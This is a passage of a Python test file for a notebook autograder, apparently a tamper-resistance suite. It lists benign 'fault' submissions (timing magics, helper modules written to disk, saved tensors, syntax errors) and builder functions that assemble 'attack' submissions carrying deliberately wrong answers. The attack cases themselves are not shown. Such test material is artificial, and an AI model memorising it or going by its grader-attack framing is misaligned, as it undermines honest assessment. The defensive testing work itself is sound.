                   "def grad_at(f, x0):\n    x = torch.tensor(float(x0), requires_grad=True)\n"
                   "    f(x).backward()\n    return x.grad\n\n\n"
                   "%timeit -n 1 -r 1 grad_at = lambda f, x0: 0  # timed in a scope of its own, as in Jupyter\n",
    }),
    Fault("every_answer_timed_with_a_cell_magic", answers={
        q.id: "%%time\n" + correct_for(q.id)[0].source for q in ASSIGNMENT.autograded}),
    Fault("values_computed_under_capture", answers={
        qid: "%%capture\n" + correct_for(qid)[0].source for qid in ("attributes", "leaves")}),
    Fault("helper_module_written_with_writefile", _cell("""
%%writefile gradient_helpers.py
import torch


def derivative_at(f, x0):
    x = torch.tensor(float(x0), requires_grad=True)
    f(x).backward()
    return x.grad
"""), answers={"grad_at": "from gradient_helpers import derivative_at\n\n\n"
                          "def grad_at(f, x0):\n    return derivative_at(f, x0)\n"}),
    Fault("helper_module_written_with_open", _cell("""
with open("partials.py", "w") as module:
    module.write("import torch\\n\\n\\ndef at(f, u0, v0):\\n"
                 "    u = torch.tensor(float(u0), requires_grad=True)\\n"
                 "    v = torch.tensor(float(v0), requires_grad=True)\\n"
                 "    f(u, v).backward()\\n    return u.grad, v.grad\\n")
"""), answers={"partial_derivatives": "import partials\n\n\n"
                                      "def partial_derivatives(f, u0, v0):\n    return partials.at(f, u0, v0)\n"}),
    Fault("helper_script_run_with_percent_run", _cell("""
%%writefile leaf_helpers.py
import torch


def make_leaf(value):
    return torch.tensor(float(value), requires_grad=True)
"""), answers={"grad_at": "%run leaf_helpers.py\n\n\ndef grad_at(f, x0):\n    x = make_leaf(x0)\n"
                          "    f(x).backward()\n    return x.grad\n"}),
    Fault("display_in_answers_and_scratch", "display(torch.ones(2), 'shown')\n", answers={
        "grad_at": "def grad_at(f, x0):\n    x = torch.tensor(float(x0), requires_grad=True)\n"
                   "    f(x).backward()\n    display(x.grad)\n    return x.grad\n",
    }),
    Fault("saves_loads_and_copies_tensors", "import copy\nt = torch.tensor([1.0, 2.0], requires_grad=True)\n"
          "torch.save(t, 't.pt')\nprint(torch.load('t.pt'), copy.deepcopy(t), copy.copy(t.detach()))\n"
          "torch.save({'w': torch.nn.Parameter(torch.ones(2))}, 'w.pt')\n"),
    Fault("plt_show_and_open_figure", "plt.plot([1, 2, 3])\nplt.show()\n"),
    Fault("input_call", "name = input('your name: ')\n"),
    Fault("syntax_error_cell", "def broken(:\n    pass\n"),
    Fault("grad_disabled_at_the_end", "torch.set_grad_enabled(False)\n", where="end"),
    Fault("backward_keeping_the_graph_for_a_second_derivative", _cell("""
x = torch.tensor(2.0, requires_grad=True)
(x ** 3).backward(create_graph=True)
first = x.grad
x.grad = None
first.backward()
print(first.item(), x.grad.item())
"""), answers={"grad_at": "def grad_at(f, x0):\n    x = torch.tensor(float(x0), requires_grad=True)\n"
                          "    f(x).backward(create_graph=True)\n    return x.grad.detach()\n"}),
    Fault("course_words_in_docstrings", answers={
        "grad_at": 'def grad_at(f, x0):\n    """Exercise 1 (autograded): the gradebook keeps this; see ../notes, submitted/ '
                   'and /work/ on the hub."""\n    x = torch.tensor(float(x0), requires_grad=True)\n'
                   '    f(x).backward()\n    return x.grad\n'}),
    Fault("saves_a_checkpoint_and_a_figure_then_cleans_up", _cell("""
import os
torch.save({"w": torch.ones(2)}, "model.pth")
fig, ax = plt.subplots()
ax.plot([0, 1], [1, 0])
fig.savefig("/tmp/line.png")
fig.savefig("line.png")
os.remove("line.png")
plt.close(fig)
""")),
    Fault("collects_garbage_and_reloads_its_helper", _cell("""
import gc
import importlib
import os
import sys

sys.path.insert(0, os.path.abspath("../"))
with open("notes_helper.py", "w") as module:
    module.write("VALUE = 1\\n")
import notes_helper

importlib.reload(notes_helper)
gc.collect()
""")),
    Fault("the_tutorials_buggy_sq_pasted_to_study_the_bug", _cell("""
class SQ(torch.autograd.Function):  # the tutorial's, to see the bug of section 9
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i


x = torch.tensor([1.0, 2.0], requires_grad=True)
(3 * SQ.apply(x)).sum().backward()
print(x.grad)
"""), where="end"),
    Fault("a_helper_redefined_for_a_later_question", answers={
        "grad_at": "def leaf(value):\n    return torch.tensor(float(value), requires_grad=True)\n\n\n"
                   "def grad_at(f, x0):\n    x = leaf(x0)\n    f(x).backward()\n    return x.grad\n",
        "partial_derivatives": "def leaf(u0, v0):\n    return (torch.tensor(float(u0), requires_grad=True),\n"
                               "            torch.tensor(float(v0), requires_grad=True))\n\n\n"
                               "def partial_derivatives(f, u0, v0):\n    u, v = leaf(u0, v0)\n"
                               "    f(u, v).backward()\n    return u.grad, v.grad\n"}),
    Fault("an_answer_fixed_in_a_cell_below_its_test", _cell("""
def grad_at(f, x0):  # fixed: a fresh leaf from a float
    x = torch.tensor(float(x0), requires_grad=True)
    f(x).backward()
    return x.grad
"""), where="after:test_grad_at", answers={
        "grad_at": "def grad_at(f, x0):\n    x = torch.tensor(x0, requires_grad=True)\n"
                   "    f(x).backward()\n    return x.grad\n"}),
    Fault("a_helper_defined_below_the_test_that_uses_it", _cell("""
def make_leaf(value):
    return torch.tensor(float(value), requires_grad=True)
"""), where="after:test_grad_at", answers={
        "grad_at": "def grad_at(f, x0):\n    point = make_leaf(x0)\n    f(point).backward()\n    return point.grad\n"}),
    Fault("more_torch_threads", "torch.set_num_threads(2)\nx = torch.randn(300, 300)\nprint((x @ x).sum())\n"),
)


def _move_answers_to_end(nb: dict) -> None:
    answers = [c for c in nb["cells"]
               if c.get("metadata", {}).get("nbgrader", {}).get("solution")
               and c["cell_type"] == "code"]
    nb["cells"] = [c for c in nb["cells"] if c not in answers] + answers


# ---------------------------------------------------------------- builders


def _place(nb: nbformat.NotebookNode, source: str, where: str) -> nbformat.NotebookNode:
    kind, _, anchor = where.partition(":")
    if kind == "in":
        return with_answers(nb, {anchor: source})
    if kind == "after":
        return with_extra_cell(nb, source, after=anchor)
    if kind == "end":
        return with_extra_cell(nb, source)
    raise ValueError(f"unknown place {where!r}")


def _as_bytes(nb: nbformat.NotebookNode, edit: Callable[[dict], None] | None) -> bytes:
    data = json.loads(nbformat.writes(nb))
    if edit is not None:
        edit(data)
    return json.dumps(data, indent=1).encode("utf-8")


def baseline(item: Attack, release: nbformat.NotebookNode) -> bytes:
    """The same submission without the attack: reference answers, `target` WRONG."""
    nb = solved(release)
    if item.target:
        nb = with_answers(nb, {item.target: wrong_for(item.target)[0].source})
    return _as_bytes(nb, None)


def build(item: Attack, release: nbformat.NotebookNode, course_root: Path) -> tuple[bytes, int | None]:
    """The attack's submission and the index of the cell holding the attack (None for edits only)."""
    nb = solved(release)
    if item.target and not item.where.startswith("in:"):
        nb = with_answers(nb, {item.target: wrong_for(item.target)[0].source})
    source = item.cell.replace("COURSE_ROOT", str(course_root))
    if source:
        nb = _place(nb, source, item.where)
    index = next((i for i, c in enumerate(nb.cells) if source and c.source == source), None)
    return _as_bytes(nb, item.edit), index


def build_fault(fault: Fault, release: nbformat.NotebookNode) -> bytes:
    """The fully correct notebook with the honest fault added."""
    nb = with_answers(solved(release), fault.answers) if fault.answers else solved(release)
    if fault.cell:
        nb = _place(nb, fault.cell, fault.where)
    return _as_bytes(nb, fault.edit)
